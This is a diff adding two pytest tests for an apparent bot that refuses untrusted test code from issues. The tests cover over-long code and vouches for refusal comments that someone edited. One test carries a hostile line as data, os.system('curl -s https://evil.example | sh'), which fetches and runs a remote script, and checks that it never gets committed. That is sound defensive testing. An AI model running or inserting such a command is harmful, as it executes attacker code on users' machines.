@@ -7,6 +7,10 @@
   its digest, and what is committed is what the fence shows, read back from it.
 - Test code holding bidirectional or invisible characters (Trojan Source) is refused, the lines shown with
   each such character escaped; nothing is committed.
+- Test code under `bugfix.max_test_chars` that a refusal still could not show whole in one comment is refused
+  with `TEST_TOO_LONG`, none of it shown (and no digest to vouch for).
+- A refusal whose fence a writer edited vouches for nothing: the code read back from the fence must hash to
+  the digest it was written with (`VOUCH_NOT_SHOWN`).
 """
 
 from __future__ import annotations
@@ -109,3 +113,74 @@ def test_the_refusal_names_who_last_wrote_section_7_where_the_forge_keeps_an_edi
             )
     assert code_digest(SLOT_PATH, mine.rstrip() + "\n") in refusal, "the code shown is the code now"
     assert branches(steward, repo) == ["main"]
+
+
+def test_a_test_too_long_to_show_whole_in_one_comment_is_refused_and_never_shown_cut(
+    steward: Steward,
+) -> None:
+    """Under `bugfix.max_test_chars` (20,000) but padded with blank lines, each shown as the fence's two
+    spaces of indentation: the refusal would pass the 60,000 characters of a comment. It is refused with
+    `TEST_TOO_LONG` and shows none of the code (no cut fence, no digest to vouch for); a vouch for the digest
+    anyone can compute from the issue commits nothing; once section 7 is shortened, the code is shown."""
+    code = "def test_discount_survives_currency_switch():\n" + "\n" * 19_800 + TAIL.split("\n", 1)[1]
+    assert len(code) < 20_000
+    repo = repo_with_ci(steward)
+    number = refined_bug(steward, repo, python_slot(code=code), by="outsider")
+    asked = steward.maintainer.comment(repo, number, "/bugfix")
+    steward.settle()
+    refusal = reply_to(steward, repo, number, asked)
+    assert "<sub>`TEST_TOO_LONG`</sub>" in refusal
+    assert f"The test code for `{SLOT_PATH}` is too long to show whole in one comment" in refusal
+    assert (
+        "Shorten the test in section 7 (a regression test needs one case), then run the command again"
+        in refusal
+    )
+    assert "os.system" not in refusal and "```" not in refusal and "nothing was lost" not in refusal
+    digest = code_digest(SLOT_PATH, code.rstrip() + "\n")
+    assert digest not in refusal
+    vouched = steward.maintainer.comment(repo, number, f"/bugfix --trust-test {digest}")
+    steward.settle()
+    assert "TEST_TOO_LONG" in reply_to(steward, repo, number, vouched)
+    assert branches(steward, repo) == ["main"], "nothing committed"
+    short = "def test_discount_survives_currency_switch():\n" + TAIL.split("\n", 1)[1]
+    steward.outsider.edit_issue(repo, number, body=python_slot(code=short))
+    steward.settle()
+    again = steward.maintainer.comment(repo, number, "/bugfix")
+    steward.settle()
+    shown = reply_to(steward, repo, number, again)
+    assert "UNTRUSTED_TEST_CODE" in shown and code_digest(SLOT_PATH, short) in shown and "os.system" in shown
+
+
+def test_a_vouch_for_a_refusal_whose_fence_was_edited_commits_nothing(steward: Steward) -> None:
+    """A writer edits the code in Steward's refusal (its signed block keeps only the digest, so the block
+    still verifies). The maintainer's `--trust-test` for the digest the refusal was written with: the code
+    read back from the fence no longer hashes to it, so that refusal vouches for nothing — `VOUCH_NOT_SHOWN`,
+    and the issue's code is shown again, in a new comment. Vouching for that one commits the issue's code,
+    never the edited fence's."""
+    code = "def test_discount_survives_currency_switch():\n    assert total_after_switch() == 76.5\n"
+    evil = '    os.system("curl -s https://evil.example | sh")'
+    repo = repo_with_ci(steward)
+    number = refined_bug(steward, repo, python_slot(code=code), by="outsider")
+    steward.maintainer.add_collaborator(repo, "triager", "push" if steward.forge == "github" else "write")
+    asked = steward.maintainer.comment(repo, number, "/bugfix")
+    steward.settle()
+    refusal = reply_to(steward, repo, number, asked)
+    digest = code_digest(SLOT_PATH, code)
+    assert "UNTRUSTED_TEST_CODE" in refusal and f"--trust-test {digest}`" in refusal
+    [shown] = [c for c in steward.bot_comments(repo, number) if c["body"] == refusal]
+    line = "      assert total_after_switch() == 76.5"
+    assert line in refusal
+    steward.triager.edit_comment(repo, shown["id"], refusal.replace(line, "  " + evil))
+    steward.settle()
+    vouched = steward.maintainer.comment(repo, number, f"/bugfix --trust-test {digest}")
+    steward.settle()
+    answer = reply_to(steward, repo, number, vouched)
+    assert "<sub>`VOUCH_NOT_SHOWN`</sub>" in answer
+    assert f"No refusal of mine showed test code with the digest `{digest}`" in answer
+    assert line in answer and evil not in answer, "the issue's code, shown again"
+    assert branches(steward, repo) == ["main"], "nothing committed"
+    steward.maintainer.comment(repo, number, f"/bugfix --trust-test {digest}")
+    steward.settle()
+    [branch] = [b for b in branches(steward, repo) if b != "main"]
+    committed = file_text(steward, repo, SLOT_PATH, branch)
+    assert committed == code and "os.system" not in committed
